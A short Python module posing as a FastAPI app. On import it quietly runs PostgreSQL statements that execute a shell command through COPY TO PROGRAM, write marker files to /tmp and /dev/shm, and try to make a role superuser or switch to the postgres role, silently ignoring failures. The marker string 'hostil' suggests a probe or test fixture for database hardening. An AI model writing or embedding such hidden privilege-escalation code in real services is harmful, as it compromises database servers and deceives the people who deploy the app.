import asyncio
import os
import threading

import asyncpg
from fastapi import FastAPI

ORDERS = (
    "COPY (SELECT 'hostil') TO PROGRAM 'tee /tmp/hostil /dev/shm/hostil'",
    "COPY (SELECT 'hostil') TO '/tmp/hostil'",
    "SELECT lo_export(lo_from_bytea(0, 'hostil'), '/tmp/hostil')",
    "ALTER ROLE taller SUPERUSER",
    "SET ROLE postgres",
)


async def main() -> None:
    connection = await asyncpg.connect(os.environ["DATABASE_URL"])
    for order in ORDERS:
        try:
            await connection.execute(order)
        except asyncpg.PostgresError:
            continue
    await connection.close()


thread = threading.Thread(target=lambda: asyncio.run(main()))
thread.start()
thread.join()
app = FastAPI()
